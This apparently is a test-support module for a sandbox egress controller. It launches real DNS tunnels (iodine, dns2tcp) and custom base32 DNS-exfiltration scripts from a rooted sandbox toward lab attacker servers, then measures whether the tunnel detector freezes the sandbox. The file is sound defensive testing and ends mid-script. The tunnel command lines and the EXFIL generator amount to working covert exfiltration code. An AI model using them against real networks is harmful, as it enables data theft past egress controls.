"""Real DNS tunnels against a real sandbox: the tunnel tests' and bench's helpers.

The attacker's side lives in the lab's internet netns (started with ``lab.spawn``, so lab
teardown stops it): iodined or dns2tcpd behind the lab DNS server's raw relays for
t.lab.test (127.0.0.1:5353) and d.lab.test (127.0.0.1:5354), plus a TCP "prober" that
dials into the sandbox through the tunnel, or a TCP sink that dns2tcpd hands the tunnel's
data to. The client side is an attacker who got root inside the sandbox: the tunnel client
runs as root in the sandbox's netns AND cgroup (v2 and the v1 freezer twin, joined before
exec), asking the sandbox's resolver at 127.0.0.53. The workload itself (unprivileged, as
``egressctl run`` starts it) is the agent holding a secret.

What a case measures, from outside egress:

- the lab DNS server's query log: every query for the tunnel zone that reached "the
  internet", with the exact name, so the bytes of subdomain text that left are counted
  where they arrive, not where egress says it sent them;
- the journal: the freeze, its confirmation, and the violation it was for;
- whether data crossed the tunnel: the prober's TCP connects and bytes (iodine), the sink's
  accepted connections and bytes (dns2tcp), and iodined's tun RX counter (every IP packet
  the client ever pushed through the tunnel).

``.test`` is a special-use TLD, which the tunnel scorer exempts by default (nobody outside
can receive its queries); the lab's zones live under it, so every policy here turns the
scorer on for lab.test with ``{zone: lab.test, exempt: false}``.
"""

from __future__ import annotations

import json
import os
import re
import secrets
import shlex
import subprocess
import sys
import time
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager, suppress
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from egress.kernel.cgroup import Cgroup
from egress.lab import Lab
from egress.store import claims
from egress.store.journal import Journal
from tests.support import SYSTEM_PYTHON, channels
from tests.support.sandboxes import EGRESSCTL, cleanup, env, policy_file, workdir

T_ZONE, D_ZONE = "t.lab.test", "d.lab.test"
IODINE_PORT, DNS2TCP_PORT = 5353, 5354  # where the lab relays T_ZONE and D_ZONE (zones.yaml)
IODINE_TYPES = ("NULL", "PRIVATE", "TXT", "SRV", "MX", "CNAME", "A")
IODINE_ENCODINGS = ("base32", "base64", "base64u", "base128")
IODINE_PASSWORD = "egress-lab-tunnel"
IODINE_SERVER, IODINE_CLIENT = "10.53.0.1", "10.53.0.2"  # the first client gets .2
AGENT_PORT = 7777  # the workload listens here; the prober dials it through the tunnel
SINK_PORT = 9000  # dns2tcpd's resource "sink" in the internet netns
DNS2TCP_KEY = "egress-lab-key"
DNS2TCP_LOCAL = 4444  # dns2tcpc's local port inside the sandbox
SECRET_BYTES = 8192  # what the agent sends through a tunnel that works
BUDGET = 2048  # bytes of subdomain text a tunnel may get upstream before the freeze

# Scorer on for lab.test (see the module docstring); `enabled: false` switches it off.
DETECT = "{zones: [{zone: lab.test, exempt: false}]}"
DISABLED = "{enabled: false}"

POLICY = """\
apiVersion: egress/v1
kind: Policy
metadata: {{name: {name}}}
spec:
  dns:
    upstreams: ["198.51.100.53"]
    allow:
{rules}
  tunnel: {tunnel}
"""


def policy(rules: list[str], tunnel: str = DETECT, name: str = "tunnel-e2e") -> str:
    """A policy allowing ``rules`` (YAML flow items), upstream the lab DNS server."""
    body = "\n".join(f"      - {rule}" for rule in rules)
    return POLICY.format(name=name, rules=body, tunnel=tunnel)


IODINE_RULE = '{name: "**.t.lab.test", types: [A, AAAA, CNAME, MX, SRV, TXT, NULL, TYPE65399]}'


def dns2tcp_rule(qtype: str) -> str:
    return f'{{name: "**.d.lab.test", types: [A, {qtype}]}}'


# -- processes in the lab's internet netns -------------------------------------------------

# Dials AGENT_PORT at the iodine client's tunnel address every 20 ms and reads what the
# agent sends; the only route to that address is iodined's tun, so a connect that succeeds
# is a TCP connection through the tunnel.
PROBER = r"""
import socket, sys, time
host, port = sys.argv[1], int(sys.argv[2])
print("probing", flush=True)
while True:
    s = socket.socket()
    s.settimeout(0.5)
    try:
        s.connect((host, port))
        got = 0
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            got += len(chunk)
        print("connected", got, flush=True)
    except OSError:
        time.sleep(0.02)
    finally:
        s.close()
"""

# dns2tcpd's resource: counts connections and bytes that came through the tunnel.
SINK = r"""
import socket, sys, threading
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", int(sys.argv[1])))
s.listen()
print("listening", flush=True)
def drain(c):
    got = 0
    while True:
        chunk = c.recv(65536)
        if not chunk:
            break
        got += len(chunk)
        print("bytes", got, flush=True)
while True:
    c, peer = s.accept()
    print("accepted", peer[0], flush=True)
    threading.Thread(target=drain, args=(c,), daemon=True).start()
"""

# An attacker's authoritative server for t.lab.test that answers every query NOERROR
# (A 203.0.113.12 for A queries): exfiltration needs no answer, and answering keeps the
# NXDOMAIN share at zero, so the scorer gets no help from it.
ANSWERER = r"""
import socket, struct, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("127.0.0.1", int(sys.argv[1])))
print("answering", flush=True)
while True:
    q, peer = s.recvfrom(4096)
    if len(q) < 17:
        continue
    pos = 12
    while pos < len(q) and q[pos]:
        pos += q[pos] + 1
    end = pos + 5
    if end > len(q):
        continue
    qtype = struct.unpack("!H", q[pos + 1:pos + 3])[0]
    answer = b""
    if qtype == 1:
        answer = struct.pack("!HHHIH", 0xC00C, 1, 1, 0, 4) + bytes([203, 0, 113, 12])
    head = q[:2] + struct.pack("!HHHHH", 0x8400 | (q[2] & 1) << 8, 1, int(qtype == 1), 0, 0)
    s.sendto(head + q[12:end] + answer, peer)
"""


def log_of(lab: Lab, role: str) -> str:
    try:
        return (Path(lab.run_dir) / f"{role}.log").read_text(errors="replace")
    except FileNotFoundError:
        return ""


def wait_log(lab: Lab, role: str, text: str, timeout: float = 10.0) -> None:
    end = time.monotonic() + timeout
    while text not in log_of(lab, role):
        if time.monotonic() > end:
            raise AssertionError(f"{role} never logged {text!r}: {log_of(lab, role)[-2000:]}")
        time.sleep(0.02)


def start_iodined(lab: Lab, role: str) -> None:
    """iodined for T_ZONE on 127.0.0.1:5353 in the internet netns (its tun: dns0)."""
    argv = [
        "iodined",
        "-f",
        "-c",
        "-l",
        "127.0.0.1",
        "-p",
        str(IODINE_PORT),
        "-P",
        IODINE_PASSWORD,
        f"{IODINE_SERVER}/27",
        T_ZONE,
    ]
    lab.spawn(argv, role)
    wait_log(lab, role, "Listening to dns for domain")


def start_dns2tcpd(lab: Lab, directory: Path, role: str) -> None:
    """dns2tcpd for D_ZONE on 127.0.0.1:5354, resource ``sink`` -> the TCP sink."""
    jail = directory / "dns2tcpd-root"
    jail.mkdir(exist_ok=True)
    rc = directory / "dns2tcpd.rc"
    rc.write_text(
        f"listen = 127.0.0.1\nport = {DNS2TCP_PORT}\nuser = nobody\nchroot = {jail}\n"
        f"key = {DNS2TCP_KEY}\ndomain = {D_ZONE}\nresources = sink:127.0.0.1:{SINK_PORT}\n"
    )
    lab.spawn(["dns2tcpd", "-F", "-d", "1", "-f", str(rc)], role)
    wait_log(lab, role, f"Listening on 127.0.0.1:{DNS2TCP_PORT}")


def start_script(lab: Lab, role: str, script: str, *args: str, ready: str) -> None:
    lab.spawn([sys.executable, "-c", script, *args], role)
    wait_log(lab, role, ready)


class Servers:
    """The attacker's servers of one case, each under a role name of its own: the lab
    appends to ROLE.log, so a name used again would read the previous case's log."""

    def __init__(self, lab: Lab) -> None:
        self.lab = lab
        self.roles: dict[str, str] = {}

    def role(self, kind: str) -> str:
        self.roles[kind] = f"{kind}-{secrets.token_hex(3)}"
        return self.roles[kind]

    def log(self, kind: str) -> str:
        return log_of(self.lab, self.roles[kind])

    def stop(self) -> None:
        """Stop every one of them, even if one fails."""
        errors = []
        for role in self.roles.values():
            if any(p.role == role for p in self.lab.processes):
                try:
                    self.lab.stop(role)
                except Exception as exc:
                    errors.append(exc)
        if errors:
            raise errors[0]


def link_stats(netns: str, dev: str) -> dict[str, int] | None:
    """RX/TX packet counters of ``dev`` in ``netns`` (None when it does not exist)."""
    done = subprocess.run(
        ["ip", "-n", netns, "-s", "-j", "link", "show", "dev", dev], capture_output=True, text=True
    )
    if done.returncode != 0:
        return None
    [link] = json.loads(done.stdout)
    stats = link.get("stats64") or link.get("stats") or {}
    return {"rx_packets": stats["rx"]["packets"], "tx_packets": stats["tx"]["packets"]}


# -- what reached the lab's DNS server -----------------------------------------------------


def zone_queries(lab: Lab, zone: str) -> list[dict[str, Any]]:
    """Queries the lab DNS server received for ``zone`` or a name under it."""
    suffix = "." + zone
    out = []
    for q in lab.queries():
        name = (q.get("qname") or "").lower().rstrip(".")
        if name == zone or name.endswith(suffix):
            out.append(q)
    return out


def subdomain_bytes(queries: list[dict[str, Any]], zone: str) -> int:
    """Bytes of text left of ``zone`` (dots between its labels included), summed."""
    return sum(max(0, len(q["qname"].rstrip(".")) - len(zone) - 1) for q in queries)


# -- the sandbox -----------------------------------------------------------------------------


class Sandbox:
    """``egressctl run`` of a workload script in the background, seen from outside."""

    def __init__(
        self, lab: Lab, d: Path, text: str, script: str, *args: str, files: Mapping[str, str]
    ) -> None:
        self.dir = d
        for name, content in files.items():  # for the workload to read ("{dir}/NAME")
            (d / name).write_text(content)
        args = tuple(a.replace("{dir}", str(d)) for a in args)
        self.board = d / "board"  # the workload (nobody) writes here
        self.board.mkdir()
        self.board.chmod(0o777)
        (d / "workload.py").write_text(script)
        policy = policy_file(d, text)
        self.report = d / "report.json"
        self.attackers: list[subprocess.Popen[bytes]] = []
        argv = [
            *EGRESSCTL,
            "run",
            "--workdir",
            str(d),
            "--policy",
            str(policy),
            "--uplink-netns",
            lab.uplink_netns,
            "--report",
            str(self.report),
            "--decision-timeout",
            "60",
            "--",
            SYSTEM_PYTHON,
            str(d / "workload.py"),
            str(self.board),
            *args,
        ]
        self.stderr_path = d / "egressctl.err"
        with open(self.stderr_path, "w") as err:
            self.proc = subprocess.Popen(
                argv, stdout=subprocess.PIPE, stderr=err, text=True, env=env()
            )
        try:
            assert self.proc.stdout is not None
            first = self.proc.stdout.readline().strip()
            if first != "started":
                raise AssertionError(f"the workload did not start: {first!r}; {self.stderr()}")
            [claim] = [c for c in claims.load_all() if c.owner_pid == self.proc.pid]
            self.id = claim.id
            self.netns = f"egress-{self.id}"
            self.cgroup = Cgroup.open(self.id)
        except BaseException:
            self.proc.kill()
            self.proc.wait()
            for claim in claims.load_all():  # egressctl killed mid-way leaves its claim
                if claim.owner_pid == self.proc.pid:
                    cleanup(claim.id)
            raise

    def stderr(self) -> str:
        return self.stderr_path.read_text(errors="replace") if self.stderr_path.exists() else ""

    def attacker(self, command: str, log: Path) -> subprocess.Popen[bytes]:
        """Run shell ``command`` as root inside the sandbox: its netns and its cgroup
        (v2 and its v1 twins, joined before exec), so the freeze stops it too."""
        join = " && ".join(f"echo $$ > {shlex.quote(p)}" for p in self.cgroup.procs_files)
        inner = shlex.quote(command)
        line = f"{join} && exec nsenter --net=/run/netns/{self.netns} -- /bin/sh -c {inner}"
        with open(log, "ab") as out:
            popen = subprocess.Popen(
                ["/bin/sh", "-c", line],
                stdin=subprocess.DEVNULL,
                stdout=out,
                stderr=subprocess.STDOUT,
            )
        self.attackers.append(popen)
        return popen

    def journal(self) -> Journal:
        return Journal.open(os.environ["EGRESS_STATE_DIR"])

    def freeze(self) -> dict[str, Any] | None:
        """The first freeze, once the journal has its confirmation and the kernel agrees."""
        with self.journal() as j:
            freezes = j.freezes(self.id)
        if freezes and freezes[-1].get("confirmed_at") and self.cgroup.is_frozen():
            return freezes[-1]
        return None

    def wait_frozen(
        self, timeout: float, give_up: Callable[[], bool] = lambda: False
    ) -> dict[str, Any] | None:
        """The confirmed freeze, or None after ``timeout`` s (or once ``give_up()``)."""
        end = time.monotonic() + timeout
        while time.monotonic() < end:
            found = self.freeze()
            if found is not None:
                return found
            if give_up() or self.proc.poll() is not None:
                return self.freeze()
            time.sleep(0.01)
        return None

    def violations(self) -> list[dict[str, Any]]:
        """Oldest first."""
        with self.journal() as j:
            return list(reversed(j.violations(self.id, limit=10_000)))

    def violation(self, violation_id: int) -> dict[str, Any] | None:
        with self.journal() as j:
            return j.violation(violation_id)

    def kill(self) -> None:
        subprocess.run([*EGRESSCTL, "kill", self.id], capture_output=True, env=env(), timeout=30)

    def finish(self, timeout: float = 30) -> tuple[int, dict[str, Any]]:
        self.proc.wait(timeout=timeout)
        data = json.loads(self.report.read_text()) if self.report.exists() else {}
        return self.proc.returncode, data

    def cleanup(self) -> None:
        if self.proc.poll() is None:
            self.proc.kill()
            self.proc.wait()
        cleanup(self.id)  # kills the cgroup: the attackers in it go too
        for popen in self.attackers:
            if popen.poll() is None:
                with suppress(ProcessLookupError):
                    popen.kill()
            popen.wait(timeout=10)
        if self.proc.stdout is not None:
            self.proc.stdout.close()


@contextmanager
def sandbox(
    lab: Lab, text: str, script: str, *args: str, files: Mapping[str, str] | None = None
) -> Iterator[Sandbox]:
    with workdir() as d:
        box = Sandbox(lab, d, text, script, *args, files=files or {})
        try:
            yield box
        finally:
            box.cleanup()


# -- the workloads (run as the unprivileged sandbox user, stdlib only) ----------------------

# The agent with a secret: whoever connects to AGENT_PORT gets SECRET_BYTES of it.
AGENT = r"""
import os, socket, sys
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("0.0.0.0", int(sys.argv[2])))
s.listen()
print("started", flush=True)
while True:
    c, peer = s.accept()
    with open(os.path.join(sys.argv[1], "accepted"), "a") as f:
        f.write(peer[0] + "\n")
    try:
        c.sendall(os.urandom(int(sys.argv[3])))
    except OSError:
        pass
    c.close()
"""

# The agent pushing its secret into dns2tcpc's local port until it is taken.
SENDER = r"""
import os, socket, sys, time
print("started", flush=True)
port, size = int(sys.argv[2]), int(sys.argv[3])
while True:
    try:
        s = socket.create_connection(("127.0.0.1", port), timeout=5)
        secret = os.urandom(size)
        for i in range(0, size, 512):
            s.sendall(secret[i:i + 512])
            time.sleep(0.005)
        with open(os.path.join(sys.argv[1], "sent"), "a") as f:
            f.write(f"{size}\n")
        time.sleep(1)
        s.close()
    except OSError:
        time.sleep(0.05)
"""


# -- whole cases ------------------------------------------------------------------------------


@dataclass
class Outcome:
    """What one tunnel case did, measured outside egress."""

    tool: str
    qtype: str
    encoding: str
    freeze: dict[str, Any] | None
    trigger: dict[str, Any] | None  # the violation the freeze was for
    violations: list[dict[str, Any]]
    queries: list[dict[str, Any]]  # received by the lab DNS server for the tunnel zone
    bytes: int  # their subdomain text, summed
    queries_before: int  # of those, received before the freeze was requested
    bytes_before: int
    data: list[str]  # evidence of data through the tunnel ("connected 8192", ...)
    server_rx_packets: int | None  # iodined's tun: IP packets that came out of the tunnel
    started_at: float  # wall clock, when the tunnel client was started
    client_log: str
    sandbox: str
    rc: int | None = None

    @property
    def frozen(self) -> bool:
        return self.freeze is not None

    @property
    def detect_s(self) -> float | None:
        return self.freeze["requested_at"] - self.started_at if self.freeze else None

    def describe(self) -> str:
        kinds = [(v["class"], v["layer"], v["detail"][:160]) for v in self.violations[:12]]
        return (
            f"{self.tool} {self.qtype}/{self.encoding}: frozen={self.frozen} "
            f"queries={len(self.queries)} bytes={self.bytes} data={self.data} "
            f"server_rx={self.server_rx_packets} violations={kinds}\n"
            f"client said: {self.client_log[-1500:]}"
        )


def _split(
    queries: list[dict[str, Any]], zone: str, freeze: dict[str, Any] | None
) -> tuple[int, int]:
    before = [q for q in queries if freeze is None or q["ts"] <= freeze["requested_at"]]
    return len(before), subdomain_bytes(before, zone)


def _outcome(
    box: Sandbox,
    lab: Lab,
    tool: str,
    qtype: str,
    encoding: str,
    zone: str,
    freeze: dict[str, Any] | None,
    started: float,
    log: Path,
    data: list[str],
    rx: int | None,
) -> Outcome:
    queries = zone_queries(lab, zone)
    n_before, b_before = _split(queries, zone, freeze)
    trigger = box.violation(freeze["first_violation"]) if freeze else None
    return Outcome(
        tool,
        qtype,
        encoding,
        freeze,
        trigger,
        box.violations(),
        queries,
        subdomain_bytes(queries, zone),
        n_before,
        b_before,
        data,
        rx,
        started,
        log.read_text(errors="replace") if log.exists() else "",
        box.id,
    )


@contextmanager
def _stopping(servers: Servers) -> Iterator[Servers]:
    try:
        yield servers
    finally:
        servers.stop()


def _end(box: Sandbox, out: Outcome) -> None:
    out.rc = _stop(box)


def _stop(box: Sandbox) -> int | None:
    """Kill the sandbox the way a reviewer would (the attackers in its cgroup go too);
    ``egressctl run``'s exit code, or None if it did not end in 30 s."""
    box.kill()
    try:
        rc, _ = box.finish(timeout=30)
    except subprocess.TimeoutExpired:
        return None
    return rc


# iodine gives up after a few failed handshakes; an attacker would start it again.
IODINE_LOOP = "while :; do iodine -f -r -P {pw} -T {t} -O {o} 127.0.0.53 {zone}; sleep 0.2; done"


def run_iodine(
    lab: Lab,
    qtype: str,
    encoding: str,
    tunnel: str = DETECT,
    timeout: float = 30.0,
    loop: bool = False,
) -> Outcome:
    """One iodine attack on a fresh sandbox and a fresh iodined; everything is gone after.

    The agent listens on AGENT_PORT; the prober on iodined's side dials it at the iodine
    client's tunnel address, so a working tunnel shows as "connected 8192" (the secret).
    ``loop``: restart iodine whenever it gives up (the bench's persistent attacker).
    """
    servers = Servers(lab)
    text = policy([IODINE_RULE], tunnel)
    try:
        start_iodined(lab, servers.role("iodined"))
        prober = servers.role("prober")
        start_script(lab, prober, PROBER, IODINE_CLIENT, str(AGENT_PORT), ready="probing")
        with sandbox(lab, text, AGENT, str(AGENT_PORT), str(SECRET_BYTES)) as box:
            lab.clear_queries()
            log = box.dir / "iodine.log"
            # -r: no raw-UDP attempt at iodined's own address (these cases are about the
            # DNS path); -O is the downstream encoding (ignored for NULL and PRIVATE).
            cmd = f"iodine -f -r -P {IODINE_PASSWORD} -T {qtype} -O {encoding} 127.0.0.53 {T_ZONE}"
            if loop:
                cmd = IODINE_LOOP.format(pw=IODINE_PASSWORD, t=qtype, o=encoding, zone=T_ZONE)
            started = time.time()
            client = box.attacker(cmd, log)
            freeze = box.wait_frozen(timeout, give_up=lambda: client.poll() is not None)
            time.sleep(0.3)  # anything the tunnel still carried would land by now
            stats = link_stats(lab.inet_netns, "dns0")
            data = [ln for ln in servers.log("prober").splitlines() if ln.startswith("connected")]
            out = _outcome(
                box,
                lab,
                "iodine",
                qtype,
                encoding,
                T_ZONE,
                freeze,
                started,
                log,
                data,
                stats["rx_packets"] if stats else None,
            )
            _end(box, out)
        return out
    finally:
        servers.stop()


def run_dns2tcp(lab: Lab, qtype: str, tunnel: str = DETECT, timeout: float = 15.0) -> Outcome:
    """One dns2tcp attack: dns2tcpc (root, in the sandbox) forwards 127.0.0.1:4444 to the
    resource "sink"; the agent pushes its secret into 4444 until it goes through."""
    servers = Servers(lab)
    text = policy([dns2tcp_rule(qtype)], tunnel)
    with workdir() as server_dir, _stopping(servers):
        start_script(lab, servers.role("sink"), SINK, str(SINK_PORT), ready="listening")
        start_dns2tcpd(lab, server_dir, servers.role("dns2tcpd"))
        with sandbox(lab, text, SENDER, str(DNS2TCP_LOCAL), str(SECRET_BYTES)) as box:
            lab.clear_queries()
            log = box.dir / "dns2tcpc.log"
            cmd = (
                f"dns2tcpc -z {D_ZONE} -k {DNS2TCP_KEY} -r sink -l {DNS2TCP_LOCAL} "
                f"-T {qtype} -d 1 127.0.0.53"
            )
            started = time.time()
            box.attacker(cmd, log)
            freeze = box.wait_frozen(timeout)
            time.sleep(0.3)
            sink = servers.log("sink").splitlines()
            data = [ln for ln in sink if ln.startswith(("accepted", "bytes"))]
            out = _outcome(
                box, lab, "dns2tcp", qtype, "base64", D_ZONE, freeze, started, log, data, None
            )
            _end(box, out)
        return out


# -- a slow exfiltration generator of our own -------------------------------------------------

# Base32 chunks of a random secret, one A query each at a fixed rate (waiting for each
# answer), optionally with a hex sequence label, until ``cap`` bytes of subdomain text
# have been sent. Progress goes to the board so a failing test can say how far it got.
EXFIL = r"""
import base64, os, socket, struct, sys, time
board, rate, size, seq, cap, zone = sys.argv[1:7]
rate, size, seq, cap = float(rate), int(size), seq == "1", int(cap)
secret = base64.b32encode(os.urandom(cap)).decode().lower().rstrip("=")
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(2)
print("started", flush=True)
while not os.path.exists(os.path.join(board, "go")):
    time.sleep(0.01)
start, n, sent = time.monotonic(), 0, 0
for i in range(0, len(secret), size):
    labels = [secret[i:i + size]] + ([format(n, "x")] if seq else []) + zone.split(".")
    wire = b"".join(bytes([len(x)]) + x.encode() for x in labels) + b"\0"
    s.sendto(struct.pack("!6H", n & 0xFFFF, 0x0100, 1, 0, 0, 0) + wire + b"\0\1\0\1",
             ("127.0.0.53", 53))
    try:
        s.recv(4096)
    except OSError:
        pass
    n += 1
    sent += len(".".join(labels)) - len(zone) - 1
    with open(os.path.join(board, "progress"), "w") as f:
        f.write(f"{n} {sent}\n")
    if sent >= cap:
        break
    time.sleep(max(0.0, start + n / rate - time.monotonic()))
print("done", flush=True)
while True:
    time.sleep(60)
"""


def progress(path: Path) -> tuple[int, int]:
    """(queries, bytes) the generator reports having sent; (0, 0) before its first."""
    try:
        n, sent = path.read_text().split()
        return int(n), int(sent)
    except (FileNotFoundError, ValueError):  # not there yet, or caught mid-write
        return 0, 0


@dataclass(frozen=True)
class Trickle:
    """One shape of slow exfiltration: ``rate`` names/s of ``size`` base32 characters."""

    name: str
    rate: float
    size: int
    seq: bool

    @property
    def bytes_per_s(self) -> float:
        return self.rate * (self.size + (3 if self.seq else 0))


# Slow exfiltration (our own generator, the sandbox's unprivileged workload, A queries for
# base32 chunks of a secret under t.lab.test, answered NOERROR by the attacker's server):
SLOW = [
    # The brief's shape: 4 names/s of 16 characters plus a sequence label, about 75 B/s,
    # 4 KB in under a minute if nothing stopped it. Already above what the 30 s window
    # lets through, so a fast-window limit is what catches it, at about 1 KB.
    Trickle("trickle-16x4", rate=4, size=16, seq=True),
    # 5-character labels, too short to count as random (about 6 B of new text per name,
    # 1.2 KB per window against 1,536): this once only the hour-long window caught, on
    # its count of unique names. Each new name's information (about 4.4 B priced against
    # the zone's names) now crosses the 30 s window's name_info_bytes at about 80 names;
    # the hour-long window's end-to-end test is test_slow_channel_is_caught_by_the_slow_window.
    Trickle("short-labels-5x6", rate=6, size=5, seq=False),
]


def run_exfil(
    lab: Lab, shape: Trickle, cap: int = 8192, tunnel: str = DETECT, timeout: float = 120.0
) -> Outcome:
    """The generator as the sandbox's own (unprivileged) workload against an attacker's
    nameserver for T_ZONE that answers everything; stops at ``cap`` bytes if never frozen."""
    args = (str(shape.rate), str(shape.size), "1" if shape.seq else "0", str(cap), T_ZONE)
    return _trickle(lab, "exfil", shape.name, EXFIL, args, {}, cap, tunnel, timeout)


def _trickle(
    lab: Lab,
    tool: str,
    name: str,
    script: str,
    args: tuple[str, ...],
    files: Mapping[str, str],
    cap: int,
    tunnel: str,
    timeout: float,
) -> Outcome:
    """``script`` (it writes "QUERIES BYTES" to board/progress, and stops at ``cap``
    bytes) as the sandbox's workload, A queries under T_ZONE allowed, against an
    attacker's nameserver that answers everything; frozen, or given up once it sent all."""
    text = policy(['{name: "**.t.lab.test", types: [A]}'], tunnel)
    servers = Servers(lab)
    try:
        answerer = servers.role("answerer")
        start_script(lab, answerer, ANSWERER, str(IODINE_PORT), ready="answering")
        with sandbox(lab, text, script, *args, files=files) as box:
            lab.clear_queries()
            started = time.time()
            (box.board / "go").touch()
            done = box.board / "progress"

            def finished() -> bool:  # the workload sent all it had: nothing will freeze
                return progress(done)[1] >= cap

            freeze = box.wait_frozen(timeout, give_up=finished)
            out = _outcome(box, lab, tool, "A", name, T_ZONE, freeze, started, done, [], None)
            _end(box, out)
        return out
    finally:
        servers.stop()


# The end of a workload that sends ``queries`` (name, qtype) one at a time at ``rate`` a
# second, waiting for each answer, once the test says go; "QUERIES BYTES" of payload sent
# in board/progress.
SEND = r"""
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(2)
print("started", flush=True)
while not os.path.exists(os.path.join(board, "go")):
    time.sleep(0.01)
start = time.monotonic()
for n, (name, qtype) in enumerate(queries, 1):
    wire = b"".join(bytes([len(x)]) + x.encode() for x in name.split(".")) + b"\0"
    s.sendto(struct.pack("!6H", n & 0xFFFF, 0x0100, 1, 0, 0, 0) + wire
             + struct.pack("!HH", qtype, 1), ("127.0.0.53", 53))
    try:
        s.recv(4096)
    except OSError:
        pass
    with open(os.path.join(board, "progress"), "w") as f:
        f.write(f"{n} {n * payload_bits // 8}\n")
    time.sleep(max(0.0, start + n / rate - time.monotonic()))
print("done", flush=True)
while True:
    time.sleep(60)
"""

# -- many zones, round-robin ----------------------------------------------------------------

# Six random labels of 7 characters a name, under zone n % zones of z0x.test ... (each
# its own registered domain: test is a top-level domain), one query at a time at
# ``rate`` a second, waiting for each answer, ``count`` names in all.
CYCLE = (
    r"""
import os, random, socket, struct, sys, time
board, zones, rate, count = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4])
rng = random.Random()
alphabet = "abcdefghijklmnopqrstuvwxyz0123456789"
labels = lambda: ["".join(rng.choices(alphabet, k=7)) for _ in range(6)]
queries = [(".".join([*labels(), f"z{n % zones}x", "test"]), 1) for n in range(1, count + 1)]
payload_bits = 217  # six random labels of 7 of 36 characters
"""
    + SEND
)
CYCLED = re.compile(r"^(?:[a-z0-9]{7}\.){6}z\d+x\.test$")
# Every name under test allowed, and scored (test is a special-use zone: exempt unless
# a policy says otherwise); each z<n>x.test is a zone of its own.
CYCLE_POLICY = policy(['{name: "**.test", types: [A]}'], "{zones: [{zone: test, exempt: false}]}")


@dataclass
class CycleRun:
    freeze: dict[str, Any] | None
    trigger: dict[str, Any] | None
    names: int  # the workload's names the lab DNS server received
    before: int  # of those, before the freeze was requested
    sent: int  # names the workload had sent when it was stopped
    rc: int | None = None

    def describe(self) -> str:
        return (f"freeze {self.freeze}, trigger {self.trigger}, names at the lab "
                f"{self.names} ({self.before} before the freeze), sent {self.sent}")  # fmt: skip


def run_zone_cycle(lab: Lab, zones: int, rate: float, count: int, timeout: float) -> CycleRun:
    """CYCLE as the sandbox's unprivileged workload: frozen, or given up once it sent
    all ``count`` names."""
    with sandbox(lab, CYCLE_POLICY, CYCLE, str(zones), str(rate), str(count)) as box:
        lab.clear_queries()
        (box.board / "go").touch()
        done = box.board / "progress"
        freeze = box.wait_frozen(timeout, give_up=lambda: progress(done)[0] >= count)
        mine = [
            q for q in lab.queries() if CYCLED.match((q.get("qname") or "").lower().rstrip("."))
        ]
        before = [q for q in mine if freeze is None or q["ts"] <= freeze["requested_at"]]
        trigger = box.violation(freeze["first_violation"]) if freeze else None
        run = CycleRun(freeze, trigger, len(mine), len(before), progress(done)[0])
        run.rc = _stop(box)
        return run


# -- the benign corpus ------------------------------------------------------------------------

DATA = Path(__file__).resolve().parents[1] / "data"
# The hand-assembled corpus, then the high-cardinality one (make_benign_extra.py): one
# sandbox asks both.
CORPORA = (DATA / "benign_names.txt", DATA / "benign_extra.txt")
CORPUS_TYPES = {
    "A": 1,
    "NS": 2,
    "CNAME": 5,
    "PTR": 12,
    "MX": 15,
    "TXT": 16,
    "AAAA": 28,
    "SRV": 33,
    "HTTPS": 65,
    "CAA": 257,
}


def corpus_text() -> str:
    return "".join(path.read_text(encoding="utf-8") for path in CORPORA)


def corpus() -> list[tuple[str, str]]:
    """(name, type) per line, in order, repeats kept."""
    out = []
    for line in corpus_text().splitlines():
        if line.strip() and not line.startswith("#"):
            name, *kind = line.split()
            out.append((name, kind[0] if kind else "A"))
    return out


def benign_policy(queries: list[tuple[str, str]], tunnel: str = "{enabled: true}") -> str:
    """Every corpus name allowed exactly, with the types the corpus asks it for; the
    scorer with its defaults (no lab.test override: no corpus name is under .test)."""
    types: dict[str, set[str]] = {}
    for name, kind in queries:
        types.setdefault(name, set()).add(kind)
    rules = [f'{{name: "{n}", types: [{", ".join(sorted(t))}]}}' for n, t in types.items()]
    return policy(rules, tunnel, name="benign-corpus")


RDATA = {
    "A": "203.0.113.10",
    "AAAA": "2001:db8:80::10",
    "HTTPS": "1 . alpn=h2,http/1.1",
    "TXT": "v=benign",
    "MX": "10 mail.example.com.",
    "NS": "ns.lab.test.",
    "CAA": '0 issue "letsencrypt.org"',
    "PTR": "localhost.",
}


def benign_zones(queries: list[tuple[str, str]]) -> str:
    """A lab zone file (YAML) answering every corpus name for every type it is asked:
    one zone per top-level domain, addresses the lab serves, no NXDOMAIN anywhere."""
    zones: dict[str, dict[str, dict[str, str]]] = {}
    for name, kind in queries:
        tld = name.rsplit(".", 1)[-1]
        records = zones.setdefault(tld, {}).setdefault(name + ".", {})
        records[kind] = f"0 5 443 {name}." if kind == "SRV" else RDATA[kind]
    doc = {"zones": [{"zone": tld, "ttl": 300, "records": recs} for tld, recs in zones.items()]}
    return json.dumps(doc, indent=1)  # JSON is YAML


# Replays the corpus in order, alternating a steady pace (an agent browsing, a build
# resolving as it goes) with bursts of parallel lookups (pip/npm resolving a dependency
# tree: 150 and 400 names, 16 and 32 in flight). Prints one JSON summary line.
REPLAY = r"""
import json, os, socket, struct, sys, threading, time
board, corpus = sys.argv[1], sys.argv[2]
TYPES = json.loads(sys.argv[3])
queries = []
for line in open(corpus, encoding="utf-8"):
    if line.strip() and not line.startswith("#"):
        name, *kind = line.split()
        queries.append((name, TYPES[kind[0] if kind else "A"]))
print("started", flush=True)
while not os.path.exists(os.path.join(board, "go")):
    time.sleep(0.01)
rcodes, lock = {}, threading.Lock()
def ask(name, qtype):
    wire = b"".join(bytes([len(x)]) + x.encode() for x in name.split(".")) + b"\0"
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    qid = int.from_bytes(os.urandom(2), "big")
    try:
        s.sendto(struct.pack("!6H", qid, 0x0100, 1, 0, 0, 0) + wire + struct.pack("!HH", qtype, 1),
                 ("127.0.0.53", 53))
